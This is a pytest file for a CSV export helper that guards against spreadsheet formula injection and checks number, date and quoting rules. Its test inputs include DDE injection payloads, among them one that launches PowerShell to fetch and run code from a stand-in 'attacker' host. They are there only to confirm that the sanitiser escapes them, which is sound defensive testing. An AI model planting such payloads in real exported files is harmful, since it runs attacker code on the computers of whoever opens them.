"""Cells that leave the console."""

import re
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from cango_ops.base.export import cell, csv_lines, csv_of_records, flat


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "＝1+1",
        "＋1",
        "－1",
        "＠x",
        " =1+1",
        "\u00a0=1+1",
        "=cmd|' /C calc'!A0",
        "=cmd|'/C powershell IEX(wget attacker)'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "+HYPERLINK(A1)",
        "=DDE(1)",
        "\u200b=1+1",
        "\ufeff=1+1",
        "\u2060\u00ad=1+1",
        "\x00=1+1",
        "\x0b=1+1",
        "\u3000＝1+1",
    ],
)
def test_text_that_could_start_a_formula_gets_an_apostrophe(text):
    assert cell(text) == "'" + text


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("\t=1", "'\t'=1"),
        ("\r=1", "'\r'=1"),
        ("\n=1", "'\n'=1"),
        ("a;=1+1", "a;'=1+1"),
        ("a; =cmd|' /C calc'!A0", "a; '=cmd|' /C calc'!A0"),
        ("a\t@x", "a\t'@x"),
        ('x;"=1+1;"y', 'x;"\'=1+1;"y'),  # who cuts at semicolons reads "" and then =1+1
        ('"=1+1', "'\"=1+1"),
        ("\u22121+1", "'\u22121+1"),
        ("a\n=1", "a\n'=1"),
        ("a\r\n＋1", "a\r\n'＋1"),
        ("a;-2+3+cmd|' /C calc'!A0", "a;'-2+3+cmd|' /C calc'!A0"),
        ("5 V; -3 A", "5 V; -3 A"),
        ("low;-3", "low;-3"),
        ("a,=1", "a,=1"),
    ],
)
def test_no_formula_begins_where_another_separator_would_cut(text, written):
    """Where a comma would cut, the cell is quoted by every reader of files of commas."""
    assert cell(text) == written


PACKAGES = [Path(__file__).resolve().parents[2] / name for name in ("cango_ops", "sites", "compute", "treasury")]


def test_every_file_for_spreadsheets_is_written_by_one_of_three():
    """Whoever adds another writer of CSV or XLSX passes its texts through export.py, and is entered here."""
    found = {
        path.relative_to(PACKAGES[0].parent).as_posix()
        for package in PACKAGES
        for path in package.rglob("*.py")
        if re.search(r"csv\.(?:writer|DictWriter)\(|(?:xlsxwriter|openpyxl)\.Workbook\(|to_csv", path.read_text())
    }

    assert found == {
        "cango_ops/base/export.py", "compute/map_file/text.py", "treasury/books/export.py",
        "treasury/reports/documents/xlsx.py",
    }  # fmt: skip


@pytest.mark.parametrize("text", ["ok", "Antminer S21", "a=1", "1-2", "", "board 2 of 3 dead", "'=1"])
def test_harmless_text_stays_as_it_is(text):
    assert cell(text) == text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-1, "-1"),
        (-0.5, "-0.5"),
        (Decimal("-12.50"), "-12.50"),
        (Decimal("1E+3"), "1000"),
        (10**20, "100000000000000000000"),
        (0, "0"),
        (True, "true"),
        (False, "false"),
    ],
)
def test_numbers_stay_numbers(value, written):
    assert cell(value) == written


@pytest.mark.parametrize("value", [None, float("nan"), float("inf"), float("-inf"), Decimal("NaN")])
def test_what_is_not_known_is_empty_and_not_nought(value):
    assert cell(value) == ""


def test_instants_are_written_in_utc_with_a_z():
    assert cell(datetime(2026, 11, 1, 6, 30, tzinfo=UTC)) == "2026-11-01T06:30:00Z"
    assert cell(datetime(2026, 11, 1, 0, 30, tzinfo=ZoneInfo("America/Chicago"))) == "2026-11-01T05:30:00Z"
    assert cell(date(2026, 11, 1)) == "2026-11-01"


def test_a_list_is_one_cell_and_as_safe_as_its_text():
    assert cell(["read", "write"]) == "read; write"
    assert cell(["=1", "b"]) == "'=1; b"


def test_lines_are_quoted_and_end_as_rfc_4180_says():
    lines = list(csv_lines(["name", "power_w"], [['say "hi", you', 3.5], ["=1", None]]))

    assert lines == ["name,power_w\r\n", '"say ""hi"", you",3.5\r\n', "'=1,\r\n"]


def test_the_header_is_as_safe_as_the_cells():
    assert next(csv_lines(["=1+1"], [])) == "'=1+1\r\n"


def test_a_nested_record_becomes_one_row():
    assert flat({"code": "PECOS", "totals": {"power_w": 3, "by_state": {"ok": 2}}}) == {
        "code": "PECOS",
        "totals_power_w": 3,
        "totals_by_state_ok": 2,
    }


def test_records_of_unequal_shape_share_one_header():
    lines = list(csv_of_records([{"a": 1}, {"a": 2, "b": "-x"}]))

    assert lines == ["a,b\r\n", "1,\r\n", "2,'-x\r\n"]


def test_no_records_give_an_empty_header_line():
    assert list(csv_of_records([])) == ["\r\n"]
